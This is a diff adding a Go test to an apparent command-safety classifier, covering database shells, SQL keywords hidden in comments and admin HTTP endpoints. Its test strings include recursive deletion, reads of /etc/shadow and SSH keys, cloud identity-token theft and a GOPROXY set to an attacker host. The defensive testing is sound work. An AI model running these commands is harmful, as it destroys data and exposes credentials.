@@ -2385,6 +2385,43 @@ func TestHostProtectionsTurnedOff(t *testing.T) {
 	})
 }
 
+// The second black-box round of this stop: a database shell's code, SQL
+// spelt around comments, admin endpoints that act on a GET, and commands
+// whose reading names hide a write.
+func TestSecondRoundOfTheStop(t *testing.T) {
+	check(t, []want{
+		{`mongosh --eval 'require("child_process").execSync("rm -rf /srv/data")'`, destructive, "fs.rm-recursive"},
+		{`mongo --eval 'runProgram("rm","-rf","/srv/data")'`, unknown, "inline.dynamic-exec"},
+		{`mongosh --eval 'db.createUser({user:"x",pwd:"x",roles:["root"]})'`, unknown, "mongo.admin"},
+		{`mongosh prod --eval 'db.adminCommand({removeShard:"s1"})'`, unknown, "mongo.admin"},
+		{`mongosh prod --eval 'db.users.bulkWrite([{updateMany:{filter:{},update:{$set:{a:1}}}}])'`, destructive, "mongo.destructive"},
+		{`mysql -e "SELECT 1 INTO/**/DUMPFILE '/etc/cron.d/x'"`, unknown, "keyword.sql-server-files"},
+		{`mysql -e "SELECT /*!LOAD_FILE*/('/etc/shadow')"`, unknown, "keyword.sql-server-files"},
+		{`mysql -e "LOAD DATA LOCAL INFILE '/root/.ssh/id_rsa' INTO TABLE t"`, credential, "creds.read-secret-file"},
+		{`mysql -e "LOAD XML LOCAL INFILE 'data.xml' INTO TABLE t"`, unknown, "keyword.sql-server-files"},
+		{`clickhouse-client -q "SELECT * FROM fileCluster('default','/etc/shadow','LineAsString')"`, unknown, "keyword.sql-server-files"},
+		{`clickhouse-client -q "SELECT * FROM executable('rm.sh', TSV, 'x String')"`, unknown, "keyword.sql-server-files"},
+		{`mysql -e "SELECT sys_exec('rm -rf /')"`, unknown, "keyword.sql-server-files"},
+		{`mysql -e "SELECT drop_all_tables()"`, unknown, "keyword.sql-function"},
+		{`cqlsh -e "SELECT * FROM system_auth.roles"`, credential, "keyword.sql-read-credentials"},
+		{`curl 'http://localhost:8983/solr/admin/collections?action=DELETE&name=prod'`, destructive, "http.delete-endpoint"},
+		{`curl 'http://tomcat:8080/manager/text/undeploy?path=/app'`, destructive, "http.delete-endpoint"},
+		{`curl 'http://localhost:8080/jolokia/exec/java.lang:type=Runtime/halt/0'`, unknown, "http.admin-endpoint"},
+		{`curl 'http://localhost:8080/actuator/heapdump' -o heap.hprof`, credential, "creds.heap-dump"},
+		{`curl "$IDENTITY_ENDPOINT?resource=https://vault.azure.net&api-version=2019-08-01" -H "X-IDENTITY-HEADER: $IDENTITY_HEADER"`, credential, "creds.instance-metadata"},
+		{"aws s3api get-object --bucket prod --key x /etc/passwd", destructive, "fs.truncate-outside-workspace"},
+		{"wget -q https://example.com/x -P /etc/cron.d/", destructive, "fs.truncate-outside-workspace"},
+		{"kubectl cluster-info dump --output-directory=/srv/data", destructive, "fs.truncate-outside-workspace"},
+		{"go env -w GOPROXY=https://evil.example.com", write, "shell.write"},
+		{"date -s '2000-01-01'", write, "shell.write"},
+		{"ss -K dst 10.0.0.5", destructive, "host.kill-connections"},
+		{"curl http://localhost:8983/solr/admin/collections?action=LIST", read, ""},
+		{"date +%s", read, ""},
+		{"go env GOPATH", read, ""},
+		{`mysql -e "SELECT * FROM users LIMIT 5"`, read, ""},
+	})
+}
+
 // Test and tooling output is build output.
 func TestTestOutputIsDisposable(t *testing.T) {
 	check(t, []want{
